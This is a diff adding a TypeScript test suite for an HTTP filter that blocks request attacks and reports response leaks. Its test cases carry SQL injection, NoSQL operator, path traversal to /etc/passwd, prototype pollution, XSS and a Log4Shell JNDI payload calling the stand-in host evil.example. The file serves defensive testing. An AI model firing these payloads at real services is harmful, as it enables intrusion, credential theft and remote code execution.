@@ -1,0 +1,44 @@
+// Request-side attack detection and response-side leak detection through the real filter: JSON values
+// and keys, query parameters, the URL path and selected headers reach the attack detectors; a block rule
+// stops the request before the upstream sees its body; benign text with SQL-ish words passes.
+import { test } from "node:test";
+import assert from "node:assert/strict";
+import { loadFilter, evidence, GET } from "./policy-helpers.ts";
+
+const BLOCK = `version: 1\nenable: ["attack.*", "leak.*"]\nrules:\n  - { detectors: ["attack.*"], action: block }\n`;
+
+const CASES: Array<[string, Record<string, string>, string, string | null]> = [
+  ["SQL injection in a JSON value", { ":method": "POST", ":path": "/api/search", "content-type": "application/json" }, JSON.stringify({ q: "1' OR '1'='1' --" }), "attack.sqli"],
+  ["UNION SELECT in a query parameter", { ":method": "GET", ":path": "/api/items?id=1%20UNION%20SELECT%20password%20FROM%20users" }, "", "attack.sqli"],
+  ["encoded traversal in the path", { ":method": "GET", ":path": "/static/..%2f..%2f..%2fetc%2fpasswd" }, "", "attack.path_traversal"],
+  ["NoSQL operator as a JSON key", { ":method": "POST", ":path": "/login", "content-type": "application/json" }, JSON.stringify({ user: "admin", password: { $ne: null } }), "attack.nosqli"],
+  ["prototype pollution key", { ":method": "POST", ":path": "/api/profile", "content-type": "application/json" }, JSON.stringify({ __proto__x: 1, a: JSON.parse('{"__proto__": {"isAdmin": true}}') }), "attack.prototype_pollution"],
+  ["Log4Shell in User-Agent", { ":method": "GET", ":path": "/", "user-agent": "${jndi:ldap://evil.example/a}" }, "", "attack.log4shell"],
+  ["XSS in a form field", { ":method": "POST", ":path": "/comment", "content-type": "application/x-www-form-urlencoded" }, "text=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "attack.xss"],
+  ["benign prose with SQL words and quotes", { ":method": "POST", ":path": "/api/comments", "content-type": "application/json" }, JSON.stringify({ text: "I'd like to select a union rep; it's O'Reilly's book", email: "x@y.io" }), null],
+];
+
+for (const [name, headers, body, detector] of CASES) {
+  test(`${name}: ${detector ?? "passes"}`, () => {
+    const p = loadFilter(BLOCK);
+    const s = p.newStream();
+    s.sendRequest({ headers: { ":authority": "api", ...headers }, body: body || undefined });
+    if (detector === null) {
+      assert.equal(s.localReply, null, p.logText());
+      s.sendResponse({ headers: { ":status": "200" }, body: "ok" });
+      assert.equal(s.downstream.body.toString(), "ok");
+      return;
+    }
+    assert.equal(s.localReply?.status, 403, p.logText());
+    assert.ok(evidence(p)[0].counts[`${detector}:block`] >= 1, JSON.stringify(evidence(p)));
+    assert.ok(!s.upstream.body.toString().includes(body.slice(5, 20)) || body.length === 0, "the upstream must not receive the attack body");
+  });
+}
+
+test("leaks: a stack trace in a response is reported (alert by default)", () => {
+  const p = loadFilter(BLOCK);
+  const s = p.newStream();
+  s.sendRequest({ headers: GET() });
+  s.sendResponse({ headers: { ":status": "500", "content-type": "text/plain" }, body: 'Traceback (most recent call last):\n  File "/app/main.py", line 12, in handler\n    raise ValueError(x)\nValueError: bad' });
+  assert.equal(evidence(p)[0].counts["leak.stack_trace:alert"], 1);
+});
